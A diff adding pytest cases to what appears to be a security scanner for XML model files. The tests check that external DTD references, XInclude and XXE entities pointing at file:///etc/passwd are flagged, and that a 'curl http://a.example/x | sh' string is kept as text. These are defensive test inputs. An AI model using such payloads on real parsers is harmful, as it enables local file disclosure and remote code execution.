@@ -119,6 +119,39 @@ def test_a_document_type_without_entities_is_silent() -> None:
     assert one(f"{HEAD}{dtd}<plist/>").defects == ()
 
 
+@pytest.mark.parametrize(
+    ("root", "address", "told"),
+    [
+        ("PMML", "http://x.invalid/a.dtd", True),
+        ("PMML", "http://www.dmg.org/v2-0/pmml_v2_0.dtd", False),
+        ("net", "../../a.dtd", True),
+        ("a", "file:///etc/passwd", True),
+    ],
+)
+def test_a_document_type_kept_elsewhere_is_a_reference(
+    root: str, address: str, *, told: bool
+) -> None:
+    subject = one(f'{HEAD}<!DOCTYPE {root} SYSTEM "{address}"><{root}/>')
+    assert [item.value for item in subject.references] == [address] * told
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<net><xi:include href="file:///etc/passwd" parse="text"/></net>',
+        '<CustomLayer><Kernel><Source filename="../../a"/></Kernel></CustomLayer>',
+    ],
+)
+def test_a_file_that_a_parser_puts_in_is_a_reference(text: str) -> None:
+    assert len(one(HEAD + text).references) == 1
+
+
+def test_commands_in_the_notes_of_a_converter_are_kept_as_text() -> None:
+    notes = '<rt_info><a value="curl http://a.example/x | sh"/><b value="fp16"/>'
+    texts = one(f"{HEAD}<net>{notes}</rt_info></net>").texts
+    assert [text.key for text in texts] == ["net/rt_info/a@value"]
+
+
 def test_wide_characters_do_not_hide_a_document_type() -> None:
     text = f'{HEAD}<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'
     assert codes(text.encode("utf-16")) == {"xml-external-entity"}
